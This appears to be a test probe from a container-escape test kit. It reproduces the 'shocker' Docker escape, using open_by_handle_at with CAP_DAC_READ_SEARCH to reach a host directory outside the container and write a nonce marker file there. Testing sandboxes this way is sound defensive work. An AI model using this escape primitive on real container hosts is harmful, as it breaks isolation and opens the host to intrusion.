#!/usr/bin/python3
# Goal:    reach an outside directory by file handle (open_by_handle_at) and create a file in it
# Models:  shocker (Docker 0.11), CAP_DAC_READ_SEARCH; bypasses mount-namespace hiding
# Oracle:  marker
# Tier:    core
# Needs:   root
from ctk import *

typ, hx = C["OUT_HANDLE"].split(":")
h = bytes.fromhex(hx)
buf = ctypes.create_string_buffer(struct.pack("<Ii", len(h), int(typ)) + h, 8 + len(h))
mfd = os.open(PROJ, os.O_RDONLY | os.O_DIRECTORY)
fd = sc(304, mfd, buf, os.O_RDONLY | os.O_DIRECTORY)
w = os.open("m-" + NONCE, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
os.write(w, NONCE.encode())
escaped("open_by_handle_at gave a writable outside directory")
